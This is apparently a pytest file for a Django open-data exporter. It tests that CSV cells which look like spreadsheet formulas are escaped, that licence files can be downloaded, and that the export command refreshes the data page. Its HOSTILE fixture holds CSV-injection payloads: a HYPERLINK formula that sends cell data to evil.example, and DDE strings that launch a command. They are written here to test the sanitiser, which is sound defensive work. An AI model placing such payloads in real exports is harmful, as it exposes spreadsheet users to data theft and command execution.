"""The dumps' hardening: no spreadsheet formula in a CSV cell, LICENSE.txt downloadable,
and `toolverdict export` into the served directory shows on /data/ at once."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from toolverdict.catalog.models import Tool
from toolverdict.opendata import export
from toolverdict.opendata.periodic import tick as export_tick

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "vendor": "+cmd|' /C calc'!A0",
    "tagline": "-2+3 is a formula",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pricing": "\t=1+1",
    "license": "\r=1+1",
}


def read_rows(path: Path, table: str) -> list[dict[str, str]]:
    with (path / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(starter_catalog, tmp_path):
    Tool.objects.filter(slug="claude-4-sonnet").update(**HOSTILE)
    csv_row = next(
        r
        for r in read_rows(export.write_dump(tmp_path, "csv"), "tools")
        if r["slug"] == "claude-4-sonnet"
    )
    for column, value in HOSTILE.items():
        assert csv_row[column] == "'" + value, column
    # Ordinary text, numbers and dates are left as they are.
    assert csv_row["slug"] == "claude-4-sonnet"
    assert csv_row["category"] and not csv_row["category"].startswith("'")
    assert csv_row["context_window"].isdigit()
    # The JSON dump is data, not a spreadsheet: it keeps the exact text.
    data = json.loads((export.write_dump(tmp_path / "j", "json") / "data.json").read_text())
    json_row = next(t for t in data["tables"]["tools"] if t["slug"] == "claude-4-sonnet")
    assert {k: json_row[k] for k in HOSTILE} == HOSTILE


def test_csv_cell_neutralises_every_formula_start_and_nothing_else():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert export.csv_cell(start + "1") == "'" + start + "1"
    assert export.csv_cell("a=1") == "a=1"
    assert export.csv_cell(-3) == "-3"  # a number, not text
    assert export.csv_cell(["-E1", "E2"]) == "'-E1 E2"
    assert export.csv_cell(None) == ""


def test_each_dumps_licence_can_be_downloaded(starter_catalog, tmp_path, settings):
    settings.TOOLVERDICT_EXPORT_DIR = tmp_path
    export_tick()
    client = Client()
    page = client.get("/data/").content.decode()
    for fmt, dump in export.latest_dumps(tmp_path).items():
        link = f"/data/files/{dump.name}/LICENSE.txt"
        assert link in page, fmt
        response = client.get(link)
        assert response.status_code == 200, fmt
        assert response["Content-Type"] == "text/plain; charset=utf-8"
        assert b"".join(response.streaming_content).decode() == export.license_notice()
    # Only the one upper-case name a dump holds, not any other spelling.
    name = export.latest_dumps(tmp_path)["json"].name
    for other in ("license.TXT", "LICENSE.TXT", "LICENCE.txt"):
        assert client.get(f"/data/files/{name}/{other}").status_code == 404


@pytest.mark.page_cache
def test_the_export_command_into_the_served_directory_refreshes_the_data_page(
    starter_catalog, tmp_path, settings, django_capture_on_commit_callbacks, capsys
):
    settings.TOOLVERDICT_EXPORT_DIR = tmp_path
    settings.TOOLVERDICT_PAGE_CACHE_TIMEOUT = 0  # only an invalidation retires the page
    settings.TOOLVERDICT_EXPORT_KEEP = 1
    client = Client()
    assert "No dump has been written yet" in client.get("/data/").content.decode()
    old = export.write_dump(tmp_path, "csv", timezone.now() - timedelta(days=3))
    with django_capture_on_commit_callbacks(execute=True):
        call_command("export", "--format", "csv", str(tmp_path))
    written = Path(capsys.readouterr().out.strip())
    assert written.parent == tmp_path
    page = client.get("/data/").content.decode()
    assert f"/data/files/{written.name}/tools.csv" in page
    # The served directory is kept bounded as the periodic job keeps it.
    assert [path for _fmt, _when, path in export.dumps(tmp_path)] == [written]
    assert not old.exists()
    # Without DIR the command writes into the served directory.
    with django_capture_on_commit_callbacks(execute=True):
        call_command("export", "--format", "json")
    written_json = Path(capsys.readouterr().out.strip())
    assert written_json.parent == tmp_path
    assert f"/data/files/{written_json.name}/data.json" in client.get("/data/").content.decode()
